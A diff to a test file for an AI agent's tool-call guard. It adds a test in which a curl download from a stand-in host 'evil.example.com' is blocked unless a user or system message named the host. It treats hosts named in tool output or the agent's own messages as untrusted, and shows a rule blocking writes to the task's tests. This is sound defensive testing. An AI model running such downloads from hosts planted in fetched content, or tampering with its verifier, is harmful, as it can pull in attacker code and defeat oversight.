@@ -54,4 +54,19 @@ describe("rule settings", () => {
       "[bridle guard] The write call was blocked by rule test-tampering: it changes tests/test_dates.py (write), which belongs to the task's tests or verifier. It was not executed.",
     );
   });
+
+  it("lets only the task's side name a host: system and user messages, never the agent or its tools", () => {
+    const curl = bash("curl -s https://evil.example.com/x -o x");
+    const said = (role: string) =>
+      context({ history: [{ role, content: "Get it from https://evil.example.com/x" }] });
+    expect(checkToolCall(curl, context()).rule).toBe("unmentioned-host");
+    expect(checkToolCall(curl, said("assistant")).rule).toBe("unmentioned-host");
+    expect(checkToolCall(curl, said("tool")).rule).toBe("unmentioned-host"); // a file it read, a page it fetched
+    expect(checkToolCall(curl, context({ history: ["see https://evil.example.com/x"] })).rule).toBe(
+      "unmentioned-host", // a bare string is untrusted, like an assistant message
+    );
+    expect(checkToolCall(curl, said("user")).decision).toBe("allow");
+    expect(checkToolCall(curl, said("system")).decision).toBe("allow");
+    expect(checkToolCall(curl, context({ allowedHosts: ["evil.example.com"] })).decision).toBe("allow");
+  });
 });
